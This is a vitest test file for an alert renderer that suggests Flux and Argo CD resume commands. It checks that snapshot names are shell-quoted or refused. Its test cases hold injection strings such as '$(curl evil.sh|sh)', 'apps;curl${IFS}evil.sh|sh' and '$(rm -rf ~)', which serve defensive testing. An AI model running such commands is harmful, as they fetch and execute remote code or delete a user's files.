// Commands suggested in alerts are built from snapshot names: safe to paste into a shell.
import { describe, expect, it } from 'vitest';
import { renderNotReconcilingAlert } from '../../../src/core/report/index.js';
import { shellCommand, shellQuote } from '../../../src/core/report/shell-command.js';
import type { ReconcilerState } from '../../../src/core/model/index.js';

const state = (
  name: string,
  namespace: string,
  kind: ReconcilerState['kind'] = 'flux-kustomization',
): ReconcilerState => ({ kind, name, namespace, suspended: true });

describe('shellQuote', () => {
  it.each([
    ['apps', 'apps'],
    ['flux-system', 'flux-system'],
    ['a b', "'a b'"],
    ['$(curl evil.sh|sh)', "'$(curl evil.sh|sh)'"],
    ["it's", "'it'\\''s'"],
    ['', "''"],
  ])('%j → %s', (argument, quoted) => {
    expect(shellQuote(argument)).toBe(quoted);
  });
});

describe('the not-reconciling alert', () => {
  it('suggests flux resume with the names as plain words', () => {
    const { body } = renderNotReconcilingAlert({
      cluster: 'prod',
      state: state('apps', 'flux-system'),
      reason: 'is suspended',
    });
    expect(body).toContain('`flux resume kustomization apps -n flux-system`');
  });

  it.each([
    ['apps;curl${IFS}evil.sh|sh', 'flux-system'],
    ['apps', 'flux-system`reboot`'],
    ['$(rm -rf ~)', 'default'],
  ])('suggests no command for a name no API server accepts (%j in %j)', (name, namespace) => {
    const { body } = renderNotReconcilingAlert({
      cluster: 'prod',
      state: state(name, namespace),
      reason: 'is suspended',
    });
    expect(body).not.toContain('flux resume');
    expect(body).toContain('Resume it when the reason for suspending it is gone.');
  });

  it.each(['apps;reboot', '$(rm -rf ~)', 'a b'])('suggests no argocd command for the Application name %j', (name) => {
    const argo = renderNotReconcilingAlert({
      cluster: 'prod',
      state: { ...state(name, 'argocd', 'argocd-application'), suspended: false },
      reason: 'is failing',
    });
    expect(argo.body).not.toContain('argocd app');
    expect(argo.body).toContain('Look at its events and conditions.');
  });

  it('quotes every argument that is not a plain word', () => {
    expect(shellCommand(['echo', 'a b', { value: 'apps', rule: 'dns-1123-subdomain' }])).toBe("echo 'a b' apps");
    expect(shellCommand(['flux', { value: 'a;b', rule: 'dns-1123-subdomain' }])).toBeUndefined();
  });
});
